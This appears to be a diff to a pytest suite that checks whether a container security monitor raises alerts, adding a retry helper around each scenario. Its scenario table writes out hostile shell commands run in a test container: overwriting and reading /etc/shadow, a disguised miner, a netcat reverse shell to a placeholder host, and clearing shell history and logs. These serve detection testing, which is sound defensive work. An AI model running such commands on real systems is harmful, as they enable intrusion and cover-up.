@@ -46,6 +46,18 @@ class Watch:
                 return alert
         return None
 
+    def alert_of(self, rule: str, container: str, words: list[str]) -> dict[str, Any]:
+        """The alert that a command raises. The command is done again where the machine was too busy for it to come to the point."""
+        give_up = time.monotonic() + DEADLINE_S
+        said = ""
+        while time.monotonic() < give_up:
+            done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=DEADLINE_S, check=False)
+            said = done.stdout + done.stderr
+            alert = self.next(rule, container, DEADLINE_S / 8)
+            if alert is not None:
+                return alert
+        raise AssertionError(f"no alert of {rule}; exit code {self.process.poll()}; the command said: {said}")
+
     def close(self) -> str:
         """End it; what it said on standard error."""
         self.process.terminate()
@@ -78,6 +90,11 @@ def watch(docker: Runtime, container: str) -> Iterator[Watch]:
     assert "Traceback" not in said
 
 
+def until(command: str) -> str:
+    """A command for a shell, done again until it comes off: who listens may need a while until it does."""
+    return f"n=0; until {command} || [ $n = 100 ]; do n=$((n+1)); sleep 0.1; done"
+
+
 SCENARIOS = {
     "Credential file read": "echo root::0 > /etc/shadow; cat /etc/shadow",
     "Configuration below etc written": "echo x > /etc/profile.local",
@@ -85,8 +102,8 @@ SCENARIOS = {
     "Package manager in container": "ln -sf busybox /bin/apk; apk add x",
     "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig",
     "New program run in container": "cp /bin/busybox /tmp/busybox; /tmp/busybox true",
-    "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & sleep 0.2; echo | nc {ELSEWHERE} 4444)",
-    "Reverse shell": f"(echo exit | nc -l -p 4445 & sleep 0.2; nc {ELSEWHERE} 4445 -e /bin/sh)",
+    "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & {until(f'echo | nc {ELSEWHERE} 4444')})",
+    "Reverse shell": f"(echo exit | nc -l -p 4445 & {until(f'nc {ELSEWHERE} 4445 -e /bin/sh')})",
     "Shell history cleared": "echo x > /root/.bash_history; rm /root/.bash_history",
     "Log cleared": "mkdir -p /var/log; echo x > /var/log/app.log; : > /var/log/app.log",
 }
@@ -95,15 +112,11 @@ SCENARIOS = {
 @pytest.mark.parametrize("rule", SCENARIOS)
 def test_scenario(rule: str, docker: Runtime, container: str, watch: Watch) -> None:
     docker_exec = ["docker", "-H", f"unix://{docker.socket}", "exec", container, "sh", "-c", f"mkdir -p /root /tmp; {SCENARIOS[rule]}"]
-    subprocess.run(docker_exec, capture_output=True, timeout=DEADLINE_S, check=False)
-    alert = watch.next(rule, container, DEADLINE_S / 4)
-    assert alert is not None, watch.process.poll()
+    alert = watch.alert_of(rule, container, docker_exec)
     assert alert["output_fields"]["container.name"] == "victim"
 
 
 def test_a_shell_with_a_terminal(docker: Runtime, container: str, watch: Watch) -> None:
     words = ["script", "-qec", f"docker -H unix://{docker.socket} exec -it {container} sh -c exit", "/dev/null"]
-    subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=DEADLINE_S, check=False)
-    alert = watch.next("Interactive shell in container", container, DEADLINE_S / 4)
-    assert alert is not None
+    alert = watch.alert_of("Interactive shell in container", container, words)
     assert alert["output_fields"]["container.name"] == "victim"
